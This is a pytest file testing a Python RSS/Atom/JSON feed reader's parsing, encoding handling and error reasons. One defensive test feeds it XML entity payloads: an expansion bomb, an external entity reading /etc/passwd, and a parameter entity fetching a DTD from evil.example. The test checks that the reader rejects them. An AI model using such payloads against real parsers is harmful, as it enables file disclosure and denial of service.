import json

import pytest

from ingest.read.feed import NotAFeed, Reason, read_feed

URL = "https://news.example/rss"
ATOM = """<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="de"><title>T</title>
<link rel="hub" href="https://hub.example/"/><link rel="self" href="https://news.example/self"/>
<entry><id>tag:news.example,2026:7</id><title type="html">Brücke &amp;lt;b&amp;gt;</title>
<link href="/a"/><updated>2026-03-02T08:00:00+01:00</updated>
<published>2026-03-01T08:00:00+01:00</published><author><name>A. Weber</name></author>
<summary>Kurz.</summary><content type="html">&lt;p&gt;Lang.&lt;/p&gt;</content>
<category term="Verkehr"/></entry></feed>"""


def rss(items, head=""):
    return f'<rss version="2.0"><channel><title>T</title>{head}{items}</channel></rss>'.encode()


def reason_of(content, **more):
    with pytest.raises(NotAFeed) as caught:
        read_feed(content, URL, **more)
    return caught.value


def test_atom_entry_has_all_it_says():
    feed = read_feed(ATOM.encode(), URL)
    (entry,) = feed.entries
    assert (entry.url, entry.authors, entry.language) == (
        "https://news.example/a",
        ("A. Weber",),
        "de",
    )
    assert (entry.summary, entry.content) == ("Kurz.", "<p>Lang.</p>")
    assert entry.published.isoformat() == "2026-03-01T08:00:00+01:00"
    assert entry.updated.isoformat() == "2026-03-02T08:00:00+01:00"
    assert entry.metadata == {"guid": "tag:news.example,2026:7", "tags": '["Verkehr"]'}
    assert (feed.hub, feed.topic) == ("https://hub.example/", "https://news.example/self")


def test_json_feed_has_the_same():
    item = {
        "id": "7", "url": "/a", "title": "Bridge", "content_text": "1 < 2\nb", "language": "en",
        "date_published": "2026-03-02T08:00:00Z", "authors": [{"name": "A. Weber"}], "tags": ["x"],
    }  # fmt: skip
    feed = {"version": "https://jsonfeed.org/version/1.1", "title": "T", "items": [item, {}, 7]}
    found = read_feed(json.dumps(feed).encode(), URL)
    (entry,) = found.entries
    assert (entry.url, entry.title, entry.content) == (
        "https://news.example/a",
        "Bridge",
        "1 &lt; 2<br>b",
    )
    assert (entry.authors, entry.metadata["guid"]) == (("A. Weber",), "7")
    assert found.faults == {"empty_item": 1, "item_of_wrong_type": 1}


def test_interval_is_what_the_publisher_says():
    assert read_feed(rss("<item><title>a</title></item>", "<ttl>15</ttl>")).interval_s == 900
    head = (
        '<sy:updatePeriod xmlns:sy="http://purl.org/rss/1.0/modules/syndication/">hourly'
        '</sy:updatePeriod><sy:updateFrequency xmlns:sy="http://purl.org/rss/1.0/modules/'
        'syndication/">2</sy:updateFrequency>'
    )
    assert read_feed(rss("", head)).interval_s == 1800


def test_original_link_comes_before_the_redirecting_one():
    item = (
        "<item><link>https://feeds.example/~r/7</link><feedburner:origLink xmlns:feedburner="
        '"http://rssnamespace.org/feedburner/ext/1.0">https://news.example/7</feedburner:origLink></item>'
    )
    assert read_feed(rss(item)).entries[0].url == "https://news.example/7"


def test_guid_is_the_address_only_when_it_says_so():
    perma = read_feed(rss("<item><guid>https://news.example/7</guid></item>")).entries[0]
    other = rss(
        '<item><guid isPermaLink="false">https://news.example/7</guid><title>a</title></item>'
    )
    assert perma.url == "https://news.example/7"
    assert read_feed(other).entries[0].url == ""


def test_malformed_xml_is_read_as_far_as_it_goes():
    content = rss("<item><title>A & B</title><link>https://news.example/7</link></item>")[:-10]
    feed = read_feed(content, URL)
    assert (feed.entries[0].title, feed.faults) == ("A & B", {"malformed_xml": 1})


@pytest.mark.parametrize("declared", ["iso-8859-1", "windows-1252", "us-ascii"])
def test_utf8_declared_as_something_else_is_read_as_utf8(declared):
    text = (
        f'<?xml version="1.0" encoding="{declared}"?>'
        + rss("<item><title>Brücke – 橋</title></item>").decode()
    )
    feed = read_feed(text.encode(), URL)
    assert (feed.entries[0].title, feed.faults) == ("Brücke – 橋", {"wrong_encoding": 1})


def test_latin1_declared_as_utf8_is_read_all_the_same():
    text = (
        '<?xml version="1.0" encoding="utf-8"?>'
        + rss("<item><title>Brücke</title></item>").decode()
    )
    feed = read_feed(text.encode("latin-1"), URL)
    assert feed.entries[0].title == "Brücke"
    assert "wrong_encoding" in feed.faults


@pytest.mark.parametrize(
    "declaration",
    [
        '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">',
        '<!ENTITY a SYSTEM "file:///etc/passwd">',
        '<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;',
        f'<!ENTITY a "{"x" * 300}">',
    ],
)
def test_entities_that_grow_or_reach_out_are_not_read(declaration):
    content = f"<!DOCTYPE rss [{declaration}]><rss><channel/></rss>".encode()
    assert reason_of(content).reason is Reason.UNSAFE_XML
    assert reason_of(content.decode().encode("utf-16")).reason is Reason.UNSAFE_XML


def test_harmless_entity_is_resolved():
    item = "<item><title>caf&eacute;</title></item>"
    content = b'<!DOCTYPE rss [<!ENTITY eacute "&#233;">]>' + rss(item)
    assert read_feed(content).entries[0].title == "café"


def test_web_page_instead_of_a_feed_names_the_feeds_it_links():
    page = (
        b'<!DOCTYPE html><html><link rel="alternate" type="application/rss+xml" href="/real.xml">'
    )
    error = reason_of(page)
    assert error.reason is Reason.HTML
    assert "https://news.example/real.xml" in str(error)


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", Reason.EMPTY),
        (b"\xef\xbb\xbf  \n", Reason.EMPTY),
        (b"hello", Reason.NOT_A_FEED),
        (b"<r/>", Reason.NOT_A_FEED),
        (b"{", Reason.BAD_JSON),
        (b'{"items": 7}', Reason.NOT_A_FEED),
    ],
)
def test_other_bytes_are_no_feed(content, reason):
    assert reason_of(content).reason is reason


def test_empty_and_double_items_are_counted():
    item = "<item><title>a</title><guid>7</guid></item>"
    feed = read_feed(rss(item + item + "<item/>"), URL)
    assert len(feed.entries) == 1
    assert feed.faults == {"duplicate_item": 1, "empty_item": 1}


def test_error_comes_back_from_another_process():
    import pickle

    error = pickle.loads(pickle.dumps(NotAFeed(Reason.HTML, "a web page")))
    assert (error.reason, str(error)) == (Reason.HTML, "a web page")
